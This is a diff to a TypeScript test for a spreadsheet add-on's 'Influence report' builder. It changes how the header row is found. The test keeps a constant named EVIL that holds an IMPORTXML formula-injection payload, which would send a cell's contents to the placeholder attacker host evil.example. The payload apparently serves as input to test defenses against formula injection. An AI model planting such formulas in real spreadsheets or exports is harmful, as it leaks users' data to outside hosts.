@@ -9,9 +9,9 @@ import type { CellValue } from '../../src/core/types';
 import { createAppsScript } from '@cadence/apps-script-fake';
 import { DIST, loadAddOn } from '../../src/local/code-runtime';
 import { readWorkbook } from '../../src/local/files/read-grid';
+import { creditHeaderRow } from './influence-rows';
 
 const TOUCHES_CSV = path.resolve(__dirname, '../../examples/touches.csv');
-const HEADER_ROW = 4;
 const EVIL = '=IMPORTXML("http://evil.example/?"&A1,"//x")';
 
 let csvRows: CellValue[][];
@@ -39,6 +39,7 @@ describe('dist/Code.js buildInfluenceReport', () => {
 
     const sheet = env.spreadsheet.sheet('Influence report');
     const values = sheet.getDataRange().getValues();
+    const HEADER_ROW = creditHeaderRow(values);
     expect(values[HEADER_ROW - 1][0]).toBe('Campaign');
     const names = values.slice(HEADER_ROW).map((r) => r[0]);
     expect(names).toContain(EVIL);
